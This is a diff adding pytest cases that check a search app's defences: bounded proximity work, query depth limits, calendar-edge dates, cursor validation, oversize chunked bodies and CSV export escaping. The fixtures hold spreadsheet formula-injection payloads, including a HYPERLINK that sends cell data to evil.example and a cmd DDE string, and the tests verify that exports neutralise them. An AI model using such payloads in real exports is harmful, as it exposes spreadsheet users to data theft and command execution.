@@ -4,6 +4,7 @@ decoding)."""
 from __future__ import annotations
 
 import io
+import json
 
 import pytest
 
@@ -82,3 +83,168 @@ def test_hostile_json_form_fields_are_400(client, path, field):
 def test_ordinary_requests_still_pass(client):
     resp = client.post("/search", json={"text": "chair", "filters": {"dates": {"filing": {"gte": "2019-01-01"}}}})
     assert resp.status_code == 200, resp.json
+
+
+# -- the third round: each row of hostile input with the answer it gets now ------------------------------
+@pytest.fixture(params=["embedded", "elasticsearch"])
+def any_backend(request, make_settings):
+    """A client of an app on each backend over the small search corpus (keys not required)."""
+    import uuid
+
+    from backend.app import create_app
+    from backend.cli_db import upgrade_database
+    from backend.search import get_backend
+    from tests.search.conftest import DIMS, corpus_docs
+
+    extra = {}
+    if request.param == "elasticsearch":
+        from backend.search.index import index_admin
+
+        extra = {"es_url": request.getfixturevalue("es_url"), "es_index_prefix": f"t{uuid.uuid4().hex[:10]}"}
+    settings = make_settings(search_backend=request.param, search_dense_text=False, max_image_pixels=1_000_000,
+                             **extra)
+    upgrade_database(settings.resolved_database_url)
+    es = None
+    if extra:
+        es = index_admin.make_client(settings)
+        index_admin.create_index(es, extra["es_index_prefix"], DIMS)
+    try:
+        backend = get_backend(settings)
+        docs = corpus_docs()
+        for doc in docs:
+            doc["title"] = FORMULA_TITLES.get(doc["publication_number"], doc["title"])
+        backend.index_figures(docs)
+        backend.refresh()
+        app = create_app(settings)
+        app.config["TESTING"] = True
+        yield app.test_client()
+    finally:
+        if es is not None:
+            index_admin.delete_all(es, extra["es_index_prefix"])
+
+
+FORMULA_TITLES = {"USD0000001": '=HYPERLINK("http://evil.example/?x="&A1, "chair")',
+                  "USD0000002": "@SUM(1+1) chair", "EP0000003B1": "+1 chair table", "US0000005B2": "-2 chair lamp"}
+
+
+def _problem(resp, status: int, *needles: str) -> str:
+    assert resp.status_code == status and resp.mimetype == PROBLEM, (resp.status_code, resp.get_data(as_text=True)[:400])
+    detail = resp.json["detail"]
+    assert all(n in detail for n in needles), detail
+    return detail
+
+
+@pytest.mark.parametrize("text", [
+    '"' + "view " * 700 + '"~1000',                 # row 2: 700 words x 1000 (quadratic in FTS5's NEAR)
+    '"chair lamp table"~700',                       # 2,100: just over
+    "chair NEAR/999 lamp AND table NEAR/10 desk",   # summed over the query
+])
+def test_proximity_work_is_bounded_before_the_backend_runs(any_backend, text):
+    import time
+
+    started = time.monotonic()
+    _problem(any_backend.post("/search", json={"text": text}), 400, "too much proximity work", "at most 2000")
+    assert time.monotonic() - started < 2
+
+
+@pytest.mark.parametrize("path", ["/search", "/search/export"])
+@pytest.mark.parametrize("text", ["(" * 200 + "chair" + ")" * 200, "chair " + "-(" * 300 + "lamp" + ")" * 300,
+                                  "chair " + "NOT " * 240 + "lamp", "chair" + " AND NOT (lamp" * 40 + ")" * 40])
+def test_deep_queries_are_400_naming_the_depth(any_backend, path, text):
+    _problem(any_backend.post(path, json={"text": text}), 400, "more than 32 levels deep")
+
+
+def test_a_deep_query_in_a_watch_is_400_naming_the_depth(client):
+    detail = _problem(client.post("/watches", json={"name": "deep", "query": {"text": "(" * 200 + "x" + ")" * 200}}),
+                      400, "more than 32 levels deep")
+    assert "recursion" not in detail
+
+
+@pytest.mark.parametrize("text, status", [
+    ("chair pd:>=9999", 200), ("chair pd:<=9999-12-31", 200), ("chair ad:>=0001-01-01", 200),
+    ("chair pd:<0001-01-01", 400), ("chair ad:<0001", 400), ("chair prd:>9999", 400), ("chair pd:>9999-12", 400),
+    ("chair pd:>9999-12-31", 400), ("chair pd:0000", 400),
+])
+def test_dates_at_the_ends_of_the_calendar(any_backend, text, status):
+    resp = any_backend.post("/search", json={"text": text})
+    if status == 400:
+        detail = _problem(resp, 400)
+        assert "0001-01-01" in detail or "9999-12-31" in detail or "not a date" in detail
+    else:
+        assert resp.status_code == 200, resp.json
+
+
+@pytest.mark.parametrize("offset", ["1e999", "1.5", '"3"', "-1", "9007199254740993", "[1]", "null"])
+def test_cursor_offsets_must_be_integers(any_backend, offset):
+    import base64
+
+    first = any_backend.post("/search", json={"text": "chair", "size": 1}).json
+    data = json.loads(base64.urlsafe_b64decode(first["next_cursor"] + "=="))
+    raw = json.dumps({**data, "o": 0}).replace('"o": 0', f'"o": {offset}')
+    cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
+    _problem(any_backend.post("/search", json={"text": "chair", "size": 1, "cursor": cursor}), 400, "cursor")
+
+
+def test_export_neutralises_formula_cells(any_backend):
+    import csv
+
+    resp = any_backend.post("/search/export?limit=50", json={"text": "chair table lamp"})
+    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
+    titles = {r["title"] for r in csv.DictReader(io.StringIO(resp.get_data(as_text=True)))}
+    assert {"'" + t for t in FORMULA_TITLES.values()} <= titles, titles
+
+
+def test_shortlist_export_uses_the_same_writer(client):
+    import csv
+
+    rows = [{"publication_number": "USD0000001", "title": "=cmd|' /C calc'!A0", "applicants": "@SUM(A1)",
+             "figure_id": "USD0000001-F1"},
+            {"publication_number": "USD0000002", "title": "-2+3", "kind": "S1", "added_at": "2026-01-01T00:00:00Z"}]
+    resp = client.post("/shortlist/export", json={"rows": rows})
+    assert resp.status_code == 200 and resp.mimetype == "text/csv"
+    got = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
+    assert [g["title"] for g in got] == ["'=cmd|' /C calc'!A0", "'-2+3"]
+    assert got[0]["applicants"] == "'@SUM(A1)" and got[1]["added_at"] == "2026-01-01T00:00:00Z"
+    _problem(client.post("/shortlist/export", json={"rows": [{"title": ["x"]}]}), 400, "rows[0].title")
+    _problem(client.post("/shortlist/export", json={"rows": [{}] * 1001}), 400, "at most 1000")
+
+
+@pytest.mark.parametrize("scale", [1e20, 1e300, 1e-300])
+def test_a_vector_is_normalised_alike_by_search_and_watches(client, scale):
+    """One validation (float64, scaled before its norm) for /search and a watch: what one takes, the other
+    runs (before: a 1e20 vector was saved, then every run failed on its float32 norm)."""
+    from backend.search import get_backend
+    from tests.search.conftest import DIMS, corpus_docs
+
+    get_backend(client.application.extensions["prism.settings"]).index_figures(corpus_docs())
+    vector = [scale * (i + 1) for i in range(DIMS)]
+    found = client.post("/search", json={"vector": vector})
+    assert found.status_code == 200 and found.json["hits"], found.json
+    created = client.post("/watches", json={"name": "big", "query": {"vector": vector}, "schedule_s": 86400})
+    assert created.status_code == 201, created.json
+    ran = client.post(f"/watches/{created.json['id']}/run")
+    assert ran.status_code == 200 and ran.json["status"] == "done", ran.json
+    for bad in ([0.0] * DIMS, []):
+        _problem(client.post("/search", json={"vector": bad}), 400, "vector")
+        _problem(client.post("/watches", json={"name": "bad", "query": {"vector": bad}, "schedule_s": 86400}),
+                 400, "vector")
+
+
+def _chunked(client, path: str, body: bytes, content_type: str):
+    # no Content-Length; wsgi.input_terminated is what gunicorn and the dev server set for a chunked body
+    return client.post(path, input_stream=io.BytesIO(body), content_type=content_type,
+                       headers={"Transfer-Encoding": "chunked"}, environ_overrides={"wsgi.input_terminated": True})
+
+
+@pytest.mark.parametrize("path", ["/search", "/watches", "/documents"])
+def test_an_oversize_chunked_body_is_413(make_settings, path):
+    from backend.app import create_app
+    from backend.cli_db import upgrade_database
+
+    settings = make_settings(max_upload_mb=1, search_dense_text=False)
+    upgrade_database(settings.resolved_database_url)
+    client = create_app(settings).test_client()
+    body = b'{"text": "' + b"a" * (3 * 1024 * 1024) + b'"}'
+    _problem(_chunked(client, path, body, "application/json"), 413, "larger than the limit")
+    small = _chunked(client, "/search", b'{"text": "chair"}', "application/json")
+    assert small.status_code == 200, small.get_data(as_text=True)[:300]
